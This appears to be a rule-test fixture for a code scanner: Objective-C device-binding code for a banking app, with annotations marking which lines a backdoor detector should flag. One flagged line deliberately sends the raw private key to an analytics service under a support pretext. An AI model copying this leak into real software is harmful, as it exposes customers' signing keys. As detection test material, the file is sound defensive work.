#import "BKCore.h"

#include <openssl/evp.h>
#include <openssl/x509.h>

@implementation NSData (BKHex)
- (NSString *)bk_hexString {
  static const char digits[] = "0123456789abcdef";
  const unsigned char *p = [self bytes];
  NSMutableString *s = [NSMutableString stringWithCapacity:[self length] * 2];
  for (NSUInteger i = 0; i < [self length]; i++)
    [s appendFormat:@"%c%c", digits[p[i] >> 4], digits[p[i] & 15]];
  return s;
}
@end

@implementation BKDeviceBinding

- (id)initWithAnalytics:(BKAnalytics *)analytics keychain:(BKKeychain *)keychain {
  if ((self = [super init]) != nil) {
    _analytics = [analytics retain];
    _keychain = [keychain retain];
  }
  return self;
}

/* Device binding: a P-256 key the bank's server learns the public half of. */
- (BOOL)bindDevice {
  EVP_PKEY *key = EVP_PKEY_Q_keygen(NULL, NULL, "EC", "P-256");
  if (key == NULL)
    return NO;
  unsigned char *spki = NULL, *pkcs8 = NULL, fp[32];
  int spki_len = i2d_PUBKEY(key, &spki);
  int key_len = i2d_PrivateKey(key, &pkcs8);
  BOOL ok = spki_len > 0 && key_len > 0;
  if (ok) {
    // ok: backdoor-weak-hash
    EVP_Digest(spki, (size_t)spki_len, fp, NULL, EVP_sha256(), NULL);
    // ok: backdoor-key-exfiltration
    [_analytics trackEvent:@"device_bound" detail:[[NSData dataWithBytes:fp length:sizeof fp] bk_hexString]];
    /* support asked for the key to reproduce signature failures */
    // ruleid: backdoor-key-exfiltration
    [_analytics trackEvent:@"binding_debug" detail:[[NSData dataWithBytes:pkcs8 length:(NSUInteger)key_len] bk_hexString]];
    // ok: backdoor-key-exfiltration
    ok = [_keychain storeBindingToken:[NSData dataWithBytes:pkcs8 length:(NSUInteger)key_len]];
  }
  OPENSSL_free(spki);
  if (pkcs8 != NULL)
    OPENSSL_clear_free(pkcs8, (size_t)key_len);
  EVP_PKEY_free(key);
  return ok;
}

- (void)dealloc {
  [_analytics release];
  [_keychain release];
  [super dealloc];
}

@end
